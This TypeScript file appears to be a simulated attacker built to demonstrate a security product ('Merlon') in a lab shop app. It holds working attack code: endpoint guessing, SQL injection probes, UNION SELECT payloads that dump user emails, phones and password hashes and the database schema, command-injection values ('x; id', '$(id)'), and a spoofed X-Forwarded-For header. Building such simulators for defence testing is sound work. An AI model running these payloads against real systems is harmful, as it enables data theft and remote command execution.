import { setTimeout as delay } from "node:timers/promises";

/** One thing the attacker tried, and how it went. */
export interface AttackStep {
  readonly stage: "reconnaissance" | "probing" | "sql-injection" | "command-injection";
  /** What was asked, with the payload readable. */
  readonly tried: string;
  readonly status: number;
  /** Whether the attacker got what this step was for. */
  readonly succeeded: boolean;
  /** Merlon's decision id when the request was refused. */
  readonly decision?: string;
  /** What was won, shortened. */
  readonly loot?: string;
}

export interface AttackerOptions {
  readonly origin: string;
  readonly signal: AbortSignal;
  /** Makes the legacy label printer's shell reachable; see shop.ts. */
  readonly labKey?: string;
  /** Time between two requests. */
  readonly pauseMs?: number;
}

interface Attempt {
  readonly stage: AttackStep["stage"];
  readonly path: string;
  readonly query?: Readonly<Record<string, string>>;
  /** Tells from the answer whether the step got what it was for. */
  readonly won: (status: number, body: string) => boolean;
}

const guessedPaths = [
  "/api",
  "/api/v3/products",
  "/api/v2/admin",
  "/api/v2/debug",
  "/admin",
  "/swagger.json",
  "/actuator/env",
  "/api/v0/products",
  "/api/v1/users",
  "/api/v1/products",
];

/** Values that scanners put into an identifier to see whether it reaches the SQL text. */
const probes = [
  "1",
  "2",
  "999999",
  "1'",
  "1 AND 1=1",
  "1 AND 1=2",
  "1 OR 1=1",
  "1 ORDER BY 4",
  "1 ORDER BY 5",
];

const legacy = "/api/v1/products";

/** Finds the deprecated endpoint, probes `product_id`, dumps the users, then goes for a shell. */
export async function* attack(options: AttackerOptions): AsyncGenerator<AttackStep> {
  for (const attempt of attempts()) {
    if (options.signal.aborted) return;
    yield await carryOut(attempt, options);
    if (options.pauseMs !== undefined) {
      await delay(options.pauseMs, undefined, { signal: options.signal }).catch(() => undefined);
    }
  }
}

function* attempts(): Generator<Attempt> {
  for (const path of guessedPaths) {
    // "product_id is required" is what tells the attacker that the old version still lives.
    yield { stage: "reconnaissance", path, won: (status) => status === 400 || status === 200 };
  }
  for (const value of probes) {
    yield {
      stage: "probing",
      path: legacy,
      query: { product_id: value },
      won: (status, body) => status === 200 || body.includes("SELECT") || body.includes("ORDER BY"),
    };
  }
  yield {
    stage: "sql-injection",
    path: legacy,
    query: { product_id: "0 UNION SELECT id, email, phone, password_hash FROM users-- -" },
    won: (_status, body) => body.includes("@example.com"),
  };
  yield {
    stage: "sql-injection",
    path: legacy,
    query: { product_id: "0 UNION SELECT name, sql, 1, 1 FROM sqlite_master" },
    won: (_status, body) => body.includes("CREATE TABLE"),
  };
  for (const command of ["x; id", "$(id)"]) {
    yield {
      stage: "command-injection",
      path: legacy,
      query: { product_id: `0 UNION SELECT 1, '${command}', 1, 1`, label: "1" },
      won: (_status, body) => body.includes("uid="),
    };
  }
}

async function carryOut(attempt: Attempt, options: AttackerOptions): Promise<AttackStep> {
  const query = attempt.query === undefined ? "" : `?${new URLSearchParams(attempt.query)}`;
  const response = await fetch(`${options.origin}${attempt.path}${query}`, {
    signal: options.signal,
    headers: {
      "user-agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
      "x-forwarded-for": "198.51.100.66",
      ...(options.labKey === undefined ? {} : { "x-lab-key": options.labKey }),
    },
  });
  const body = await response.text();
  const decision = response.headers.get("merlon-decision");
  const succeeded = decision === null && attempt.won(response.status, body);
  return {
    stage: attempt.stage,
    tried: `GET ${attempt.path}${readable(attempt.query)}`,
    status: response.status,
    succeeded,
    ...(decision === null ? {} : { decision }),
    ...(succeeded && attempt.stage.endsWith("injection") ? { loot: body.slice(0, 160) } : {}),
  };
}

function readable(query: Attempt["query"]): string {
  if (query === undefined) return "";
  return `?${Object.entries(query)
    .map(([name, value]) => `${name}=${value}`)
    .join("&")}`;
}
